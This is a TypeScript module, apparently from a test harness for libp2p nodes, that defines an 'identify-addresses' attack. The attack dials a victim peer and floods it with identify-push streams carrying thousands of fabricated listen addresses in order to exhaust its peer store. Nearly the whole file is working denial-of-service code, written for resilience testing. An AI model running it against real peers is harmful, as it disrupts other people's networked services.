/** Row 2: identify messages that carry thousands of addresses; the same work for the peer store as those of the DHT. */
import type { Attack } from './attack.ts'
import { finding } from './attack.ts'
import { addressBytes } from './dht-addresses.ts'
import { bytesField, delimited } from './protobuf.ts'
import { dial, openStream, PUSH_PROTOCOL, sendAll, stranger } from './stranger.ts'
import { pause } from './waiting.ts'

const LISTEN_ADDRESSES = 2
/** Of one stream, in messages of at most 8 KiB. */
const MESSAGES = 10
const ADDRESSES = 600
const STREAMS = 20

export const identifyAddresses: Attack = {
  row: 2,
  name: 'identify-addresses',
  against: ['secret', 'open'],
  async run({ victim, source, pressing }) {
    const libp2p = await stranger(source)
    try {
      const connection = await dial(libp2p, victim.address)
      let sent = 0
      for (let stream = 0; stream < STREAMS; stream += 1) {
        const push = await openStream(connection, PUSH_PROTOCOL)
        if (push === undefined) continue
        const parts = Array.from({ length: MESSAGES }, (_, message) => {
          const first = (stream * MESSAGES + message) * ADDRESSES
          return delimited(...Array.from({ length: ADDRESSES }, (__, index) => bytesField(LISTEN_ADDRESSES, addressBytes(first + index))))
        })
        if (await sendAll(push, Buffer.concat(parts))) sent += 1
        await push.close().catch(() => {})
      }
      await pressing()
      await pause(2_000)
      return [finding(true, `${sent} streams of ${MESSAGES * ADDRESSES} addresses sent`)]
    } finally {
      await libp2p.stop()
    }
  },
}
